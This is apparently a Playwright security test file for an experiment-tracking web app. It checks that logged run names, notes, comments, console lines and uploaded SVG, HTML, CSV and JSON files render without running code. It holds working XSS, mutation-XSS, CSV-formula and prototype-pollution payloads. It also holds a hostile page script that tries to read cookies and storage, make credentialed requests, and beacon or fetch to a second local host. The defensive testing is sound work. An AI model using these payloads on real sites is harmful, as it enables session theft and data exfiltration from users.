"""What people log is shown and does nothing: names, params, notes, pictures, and HTML that tries all it can."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass, field
from typing import Any

import pytest
from browser.logged import asked
from playwright.sync_api import Browser, BrowserContext, Error, Page, expect
from support.server import Server

SCRIPT = "<img src=x onerror=\"window.hacked='by a text'\"><script>window.hacked='by a text'</script>"
NOTE = """*shown* {script}

[press](javascript:window.hacked='by_a_link') [data](data:text/html,<script>window.hacked=1</script>)
![away]({away}/from-markdown.png) <img src="{away}/from-html.png" srcset="{away}/from-srcset.png">
<form action="{away}/form"><input name=q autofocus onfocus="window.hacked='by a form'"><button>go</button></form>
<style>@import url({away}/style.css); body {{ display: none }}</style>
<iframe src="{away}/frame"></iframe><svg onload="window.hacked='by svg'"></svg><math><mtext><table><mglyph><style>
<!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">
<a id="root" name="body" style="position:fixed;inset:0">over all</a>
"""
SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="window.hacked='by a picture'">
<script>window.hacked='by a picture'; fetch('{away}/svg')</script><image href="{away}/from-svg.png"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{away}/svg-frame"/></foreignObject>
<rect width="40" height="40" fill="green"/></svg>"""
PAGE = """<!doctype html><h1>hostile</h1><link rel=stylesheet href="{away}/a.css"><link rel=dns-prefetch href="{away}">
<link rel=preload as=image href="{away}/b.png"><img src="{away}/c.png"><img src="/api/v1/runs">
<iframe src="/"></iframe><object data="{away}/d"></object><form id=f action="{away}/form" method=post></form><script>
const told = {{}};
const tries = {{
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  parent: () => parent.document.title,
  parentStorage: () => parent.localStorage.length,
  fetch: () => fetch("{api}"),
  fetchWithCookies: () => fetch("{api}", {{credentials: "include"}}),
  away: () => fetch("{away}/fetch", {{mode: "no-cors"}}),
  post: () => fetch("{api}", {{method: "POST", body: "{{}}"}}),
  beacon: () => {{ navigator.sendBeacon("{away}/beacon", "x"); throw new Error("the other host knows whether"); }},
  socket: () => new Promise((done, fail) => {{
    const socket = new WebSocket("{away}/socket".replace("http", "ws")); socket.onopen = done; socket.onerror = fail;
  }}),
  events: () => new Promise((done, fail) => {{
    const events = new EventSource("{away}/events"); events.onopen = done; events.onerror = fail;
  }}),
  worker: () => new Promise((done, fail) => {{
    const worker = new Worker("{away}/worker.js"); worker.onmessage = done; worker.onerror = fail;
  }}),
  module: () => import("{away}/module.js"),
  popup: () => {{ if (open("{away}/popup") === null) throw new Error("refused"); }},
  top: () => {{ top.location.href = "{away}/top"; return "went"; }},
}};
(async () => {{
  for (const [name, act] of Object.entries(tries)) {{
    try {{ told[name] = "did: " + String(await act()); }} catch (error) {{ told[name] = "refused"; }}
  }}
  document.getElementById("f").submit();
  parent.postMessage(told, "*");
  setTimeout(() => {{ location.href = "{away}/own-frame"; }}, 50);
}})();
</script>"""


@dataclass
class Away:
    """Another host, and what was asked of it."""

    url: str
    asked: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def away() -> Iterator[Away]:
    """A host that nothing should ask for anything."""
    found = Away("")

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, *words: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found.url = f"http://127.0.0.1:{server.server_port}"
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield found
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture(scope="module")
def id(served: Server, away: Away) -> str:
    """A run that means harm."""
    given = {
        "experiment": f"lab {SCRIPT}",
        "name": f"run {SCRIPT}",
        "params": {f"p {SCRIPT}": SCRIPT},
        "tags": {f"t {SCRIPT}": SCRIPT, "mlflow.source.name": SCRIPT, "mlflow.source.git.repoURL": "javascript:1"},
    }
    id = str(asked(served, "POST", "runs", given)["id"])
    note = NOTE.format(script=SCRIPT, away=away.url)
    asked(served, "PATCH", f"runs/{id}", {"note": note, "groups": [SCRIPT]})
    lines = {"lines": [["stdout", 1, SCRIPT], ["stdout", 2, "\x1b]8;;javascript:1\x07link\x1b]8;;\x07"]]}
    asked(served, "POST", f"runs/{id}/console?writer=w&first=0&stream=console", lines)
    asked(served, "POST", f"runs/{id}/comments", {"text": note})
    values = [{"key": SCRIPT, "step": 0, "time_us": 1, "kind": "text", "document": {"text": SCRIPT}}]
    asked(served, "POST", f"runs/{id}/values?writer=w&first=0&stream=values", values)
    files = {
        "evil.svg": SVG.format(away=away.url),
        "evil.html": PAGE.format(away=away.url, api=f"{served.url}/api/v1/runs"),
        "evil.md": note,
        "evil.csv": f"a,b\n=1+1,{SCRIPT}\n",
        "evil.json": '{"__proto__": {"hacked": 1}, "<script>": "</script><script>window.hacked=1</script>"}',
        "fake.png": "<script>window.hacked='by a file'</script>",
    }
    with closing(served.http()) as connection:
        for name, text in files.items():
            assert connection.request("PUT", f"/api/v1/runs/{id}/files/{name}", text.encode()).status == 200
    return id


@pytest.fixture
def visitor(browser: Browser, served: Server) -> Iterator[BrowserContext]:
    """A browser with a cookie that is worth stealing."""
    context = browser.new_context(base_url=served.url)
    context.set_default_timeout(10_000)
    context.add_cookies([{"name": "secret", "value": "of-the-visitor", "url": served.url}])
    yield context
    context.close()


def harmless(page: Page, away: Away) -> None:
    """Nothing ran in the page, and nobody else was asked for anything."""
    assert page.evaluate("window.hacked") is None
    assert page.evaluate("({}).hacked") is None
    assert away.asked == []


def test_names_params_notes_and_lines_do_nothing(visitor: BrowserContext, id: str, away: Away) -> None:
    page = visitor.new_page()
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    for tab, shown in {
        "": page.get_by_role("heading", level=1),
        "console": page.get_by_role("log").get_by_text("link", exact=True),
        "comments": page.get_by_role("article"),
        "values": page.get_by_role("region", name="img src=x"),
        "lineage": page.get_by_role("region", name="Groups"),
        "files&file=evil.md": page.locator(".markdown em"),
        "files&file=evil.csv": page.get_by_role("table"),
        "files&file=evil.json": page.locator(".json").get_by_text("__proto__"),
    }.items():
        page.goto(f"/runs/{id}?tab={tab}")
        expect(shown).to_be_visible()
        if tab in ("", "comments"):
            expect(page.locator(".markdown em").first).to_be_visible()
            expect(page.locator(".markdown").locator("form, input, style, iframe, svg, script")).to_have_count(0)
            expect(page.locator(".markdown a[href^=javascript], .markdown [style], .markdown [id]")).to_have_count(0)
        harmless(page, away)
    page.goto(f"/compare?runs={id}&tab=params")
    expect(page.get_by_role("row", name="p <img src=x")).to_be_visible()
    harmless(page, away)


def test_pictures_do_nothing(visitor: BrowserContext, id: str, away: Away) -> None:
    page = visitor.new_page()
    page.goto(f"/runs/{id}?tab=files&file=evil.svg")
    expect(page.get_by_role("img", name="evil.svg")).to_be_visible()
    harmless(page, away)
    page.goto(f"/runs/{id}?tab=files&file=fake.png")
    expect(page.get_by_text("This is no image")).to_be_visible()
    harmless(page, away)
    page.goto(f"/api/v1/runs/{id}/raw/evil.svg")  # a page of its own
    page.wait_for_timeout(200)
    harmless(page, away)


def test_a_page_in_its_sandbox_reads_nothing_and_asks_for_nothing(
    visitor: BrowserContext, served: Server, id: str, away: Away
) -> None:
    page = visitor.new_page()
    page.add_init_script("addEventListener('message', event => console.info('told' + JSON.stringify(event.data)))")
    answered: list[str] = []  # what the policy forbids is a request for the driver, but is never sent
    visitor.on("response", lambda told: answered.append(told.url) if "/raw/" in told.frame.url else None)
    with page.expect_console_message(lambda said: said.text.startswith("told")) as said:
        page.goto(f"/runs/{id}?tab=files&file=evil.html")
    told = json.loads(said.value.text.removeprefix("told"))
    page.wait_for_timeout(300)  # its frame tries to go elsewhere
    assert {name: what for name, what in told.items() if what != "refused"} == {}
    assert [url for url in answered if "/raw/evil.html" not in url] == []
    assert page.url.startswith(served.url)
    assert len(visitor.pages) == 1
    harmless(page, away)
    frame = page.locator("iframe")
    assert frame.get_attribute("sandbox") == "allow-scripts"
    with pytest.raises(Error, match="Download is starting"):  # by itself it is saved, not shown
        page.goto(f"/api/v1/runs/{id}/raw/evil.html")
